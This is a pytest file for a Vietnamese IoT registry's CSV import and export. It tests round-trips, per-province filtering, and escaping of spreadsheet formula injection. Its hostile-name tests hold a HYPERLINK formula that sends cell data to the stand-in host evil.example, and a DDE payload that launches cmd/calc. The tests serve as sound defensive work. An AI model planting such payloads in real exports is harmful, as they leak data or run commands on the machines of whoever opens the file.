from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from iotgw.registry import make_engine, seed_admin_units, session_factory, upgrade
from iotgw.registry.csv_export import export_csv, records
from iotgw.registry.csv_import import import_csv
from iotgw.registry.spreadsheet_cells import restored_cell, safe_cell
from sqlalchemy.orm import Session

FILES = {
    "organisations": "id,name,type,sector,ward_code,since,open_data\n"
                     'coop-1,"HTX Tân Hiệp, ""Lúa sạch""",agricultural_cooperative,agriculture,70,'
                     "2025-03-01,false\n"
                     "factory-1,Nhà máy 1,factory,industry,73,2024-12-31,true\n"
                     "farm-1,Trại 1,farm,agriculture,73,2024-12-31,\n",
    "gateways": "id,ward_code,organisation_id,installed_on,latitude,longitude\n"
                "gw-1,70,coop-1,2025-04-01,10.5,105.6\ngw-2,73,,2025-04-02,,\n",
    "devices": "id,gateway_id,profile,sector,expected_interval_s,installed_on,ward_code,"
               "organisation_id,decommissioned_on\n"
               "d-1,gw-1,soil_probe,agriculture,300,2025-04-02,70,coop-1\n"
               "d-2,gw-2,air_quality,environment,60,2025-04-03,73,\n"
               "d-3,gw-2,air_quality,environment,60,2025-04-03,73,,2025-09-30\n",
    "reference_counts": "level,unit_code,org_type,year,count,source\n"
                        "ward,70,farm,2024,12,Thống kê 2024\n",
    "declarations": "organisation_id,subject,declared_on,holds,level,source\n"
                    "factory-1,mes,2025-06-01,true,3,Khảo sát Sở KH&CN 2025\n"
                    "factory-1,mes,2026-01-15,false,,=Tự khai\n",
    "aggregates": "measure,level,unit_code,year,numerator,denominator,source\n"
                  "e_invoice,province,1,2025,120,400,Cục Thuế\n"
                  "ocop_traceable,former_province,75,2024,7,20,Cổng truy xuất\n",
}


def _export_all(session: Session) -> dict[str, str]:
    out = {}
    for kind in FILES:
        buffer = io.StringIO()
        export_csv(session, kind, buffer)  # type: ignore[arg-type]
        out[kind] = buffer.getvalue()
    return out


def test_export_reimports_to_the_same_registry(session: Session, tmp_path: Path) -> None:
    seed_admin_units(session)
    for kind, text in FILES.items():
        import_csv(session, kind, io.StringIO(text), source=kind)  # type: ignore[arg-type]
    first = _export_all(session)
    assert first["devices"].splitlines()[1] == (
        "d-1,70,coop-1,2025-04-02,,,,gw-1,soil_probe,agriculture,300")
    assert first["devices"].splitlines()[3] == (
        "d-3,73,,2025-04-03,2025-09-30,,,gw-2,air_quality,environment,60")
    assert '"HTX Tân Hiệp, ""Lúa sạch"""' in first["organisations"]
    # open_data as given: opted out, opted in, by type (empty); a hand-written empty level too.
    assert [line.rsplit(",", 1)[1] for line in first["organisations"].splitlines()] == [
        "open_data", "false", "true", ""]
    assert first["declarations"].splitlines()[1:] == [
        "factory-1,mes,2025-06-01,true,3,Khảo sát Sở KH&CN 2025", "factory-1,mes,2026-01-15,false,,'=Tự khai"]
    assert first["aggregates"].splitlines()[1] == "e_invoice,province,1,2025,120,400,Cục Thuế"
    fresh_engine = make_engine(f"sqlite:///{tmp_path / 'fresh.sqlite'}")
    upgrade(fresh_engine)
    with session_factory(fresh_engine)() as fresh:
        seed_admin_units(fresh)
        for kind, text in first.items():
            import_csv(fresh, kind, io.StringIO(text), source=kind)  # type: ignore[arg-type]
        assert _export_all(fresh) == first


def test_a_province_s_rows_of_declarations_and_aggregates(session: Session) -> None:
    """Declarations go with their organisation's province, aggregates with their unit's (a
    former province's with the province its wards are now in)."""
    seed_admin_units(session)
    for kind, text in FILES.items():
        import_csv(session, kind, io.StringIO(text), source=kind)  # type: ignore[arg-type]
    assert [r["declared_on"].isoformat() for r in records(session, "declarations", province=1)] == [
        "2025-06-01", "2026-01-15"]  # factory-1 is in ward 73, of Hà Nội (1)
    assert list(records(session, "declarations", province=75)) == []
    assert [r["measure"] for r in records(session, "aggregates", province=1)] == ["e_invoice"]
    assert [r["measure"] for r in records(session, "aggregates", province=75)] == ["ocop_traceable"]
    assert list(records(session, "aggregates", province=82)) == []


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"open")'


@pytest.mark.parametrize(("value", "written"), [
    (HOSTILE_NAME, "'" + HOSTILE_NAME),
    ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-inf", "'-inf"),
    ("'=1", "''=1"),  # already quoted by hand: one more quote, so the original comes back
    ("HTX Tân Hiệp", "HTX Tân Hiệp"), ("a=b", "a=b"), ("'quoted'", "'quoted'"), ("", ""),
    ("-3.5", "-3.5"), ("+7", "+7"), ("-1e3", "-1e3"),  # numbers stay numbers
    (-3.5, -3.5), (12, 12), (None, None),
])
def test_a_cell_that_starts_a_formula_is_quoted_and_restored(value: object, written: object) -> None:
    assert safe_cell(value) == written
    if isinstance(value, str):
        assert restored_cell(safe_cell(value)) == value


def test_a_hostile_organisation_name_is_exported_as_text(session: Session) -> None:
    seed_admin_units(session)
    rows = [("evil-1", HOSTILE_NAME), ("evil-2", "@SUM(1+1)*cmd|' /C calc'!A0"), ("ok-1", "Trại -1")]
    given = io.StringIO()
    writer = csv.writer(given)
    writer.writerow(["id", "name", "type", "sector", "ward_code", "since"])
    writer.writerows([org, name, "farm", "agriculture", 70, "2025-03-01"] for org, name in rows)
    import_csv(session, "organisations", io.StringIO(given.getvalue()), source="orgs.csv")
    out = io.StringIO()
    export_csv(session, "organisations", out)
    names = {row["id"]: row["name"] for row in csv.DictReader(io.StringIO(out.getvalue()))}
    assert names == {"evil-1": "'" + HOSTILE_NAME, "evil-2": "'@SUM(1+1)*cmd|' /C calc'!A0",
                     "ok-1": "Trại -1"}
    assert {org: restored_cell(name) for org, name in names.items()} == dict(rows)


def test_an_exported_hostile_name_imports_back_to_the_original(session: Session, tmp_path: Path) -> None:
    """The quote an export adds is the export's: importing the file restores the name."""
    seed_admin_units(session)
    given = ("id,name,type,sector,ward_code,since\n"
             f'evil-1,"{HOSTILE_NAME.replace(chr(34), chr(34) * 2)}",farm,agriculture,70,2025-03-01\n')
    import_csv(session, "organisations", io.StringIO(given), source="orgs.csv")
    exported = _export_all(session)["organisations"]
    assert '"\'=HYPERLINK(' in exported  # quoted on the way out
    fresh_engine = make_engine(f"sqlite:///{tmp_path / 'fresh.sqlite'}")
    upgrade(fresh_engine)
    with session_factory(fresh_engine)() as fresh:
        seed_admin_units(fresh)
        import_csv(fresh, "organisations", io.StringIO(exported), source="organisations.csv")
        out = io.StringIO()
        export_csv(fresh, "organisations", out)
    assert out.getvalue() == exported  # the name came back unquoted, and is quoted again
